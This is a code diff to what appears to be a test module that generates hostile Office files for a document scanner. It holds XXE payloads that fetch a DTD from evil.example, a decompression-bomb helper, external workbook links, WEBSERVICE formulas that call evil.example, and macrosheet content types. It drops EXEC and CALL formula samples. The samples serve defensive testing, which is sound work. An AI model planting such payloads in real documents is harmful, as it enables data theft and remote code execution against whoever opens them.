@@ -38,6 +38,8 @@ PARAMETER = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;
 BARE = b'<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><x/>'
 MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 
+BOOK = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+
 
 def zeros(megabytes: int) -> bytes:
     """An honest document beside one part that unpacks to so much."""
@@ -276,9 +278,14 @@ def _running() -> Iterator[Hostile]:
     yield sheet("outside workbook", {"xl/externalLinks/_rels/e.xml.rels": relations(
         ("externalLinkPath", "file:///x.xlsx", "External"))})  # fmt: skip
     cell = xlsx_parts()["xl/worksheets/sheet1.xml"]
-    for formula in (b'WEBSERVICE("https://evil.example")', b'EXEC("calc")', b'CALL("kernel32")'):
+    for formula in (b'WEBSERVICE("https://evil.example")', b'webservice ("//evil.example")'):
         yield sheet(formula[:10].decode(), {
             "xl/worksheets/sheet1.xml": cell.replace(b"SUM(1,2)", formula)})  # fmt: skip
+    for kind in ("macrosheet", "intlmacrosheet"):
+        listed = types(
+            ("/xl/workbook.xml", BOOK), ("/xl/m.xml", f"application/vnd.ms-excel.{kind}+xml")
+        )
+        yield sheet(kind, {"[Content_Types].xml": listed})
     yield sheet("unknown part", {"xl/evil.bin": b"\x00"})
 
 
